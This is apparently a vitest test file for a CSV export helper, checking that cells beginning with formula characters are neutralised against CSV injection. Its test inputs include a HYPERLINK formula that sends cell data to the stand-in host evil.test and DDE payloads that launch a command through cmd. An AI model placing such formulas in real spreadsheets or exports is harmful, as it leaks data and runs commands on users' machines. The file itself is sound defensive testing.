import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('csvCell (OWASP, "CSV Injection")', () => {
  it.each([
    [
      '=',
      '=HYPERLINK("http://evil.test/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.test/?""&A1,""click"")"`,
    ],
    ['+', "+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['tab', '\t=1+1', `"'\t=1+1"`],
    ['carriage return', '\r=1+1', `"'\r=1+1"`],
  ])(
    'neutralises a text cell starting with %s: quote-prefixed, quoted, quotes doubled',
    (_, text, written) => {
      expect(csvCell(text)).toBe(written);
    },
  );

  it('quotes other text as it is, writes numbers as numbers and nothing as empty', () => {
    expect(csvCell('Sinistre, "auto"')).toBe('"Sinistre, ""auto"""');
    expect(csvCell('a;b\nc')).toBe('"a;b\nc"');
    // Only the start of a cell makes a formula: an equals sign later on is text.
    expect(csvCell('x=1')).toBe('"x=1"');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(null)).toBe('');
  });

  it('writes rows with a byte-order mark and CRLF line ends', () => {
    expect(
      toCsv([
        ['Name', 'Count'],
        ['=1+1', 2],
      ]),
    ).toBe('\uFEFF"Name","Count"\r\n"\'=1+1",2\r\n');
  });
});
